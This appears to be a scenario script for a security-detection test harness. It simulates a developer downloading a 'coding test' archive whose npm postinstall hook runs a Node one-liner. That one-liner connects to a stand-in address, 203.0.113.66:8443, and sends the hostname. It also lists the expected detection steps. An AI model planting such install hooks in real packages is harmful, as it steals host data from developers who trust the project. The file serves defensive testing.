# A coding test whose dependencies are harmless; its install script is not.
title="Downloaded project, npm install runs its script"
what="dev downloads a coding test with Firefox, unpacks it and runs npm install as its readme says. The package's postinstall line starts node on a file of the archive, which connects to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron sshd"
stand_ins=("/usr/lib/firefox-esr/firefox-esr stands in for Firefox: it fetches one file and writes it as Firefox does (name, .part, rename)")

setup() {
  compile browser /usr/lib/firefox-esr/firefox-esr
  mkdir -p "$base/out/t/board-test/tools"
  echo '{"name": "board-test", "version": "1.0.0", "scripts": {"postinstall": "node tools/prepare.js"}}' > "$base/out/t/board-test/package.json"
  echo 'const s = require("net").connect(8443, "203.0.113.66", () => s.end(require("os").hostname())); s.on("error", () => {});' > "$base/out/t/board-test/tools/prepare.js"
  tar czf "$base/out/www/board-test.tgz" -C "$base/out/t" board-test
}
act() {
  small_talk 2
  desktop_as dev -- /usr/lib/firefox-esr/firefox-esr 203.0.113.83 80 /board-test.tgz Downloads/board-test.tgz; desktop_wait
  sleep 2
  ssh_as dev <<'L'
mkdir -p projects; cd projects; tar xzf ~/Downloads/board-test.tgz
cd board-test; cat package.json
npm install --no-audit --no-fund --offline
L
}
truth() {
  file_step save 'firefox-esr rename .*CREATE /home/dev/Downloads/board-test.tgz' 'the browser saves the archive'
  exec_step install 'npm.* install' 'npm install is run'
  exec_step execute 'node tools/prepare.js' 'it runs a script of the archive'
  net_step beacon 'node.* 203.0.113.66:8443' 'which calls out'
}
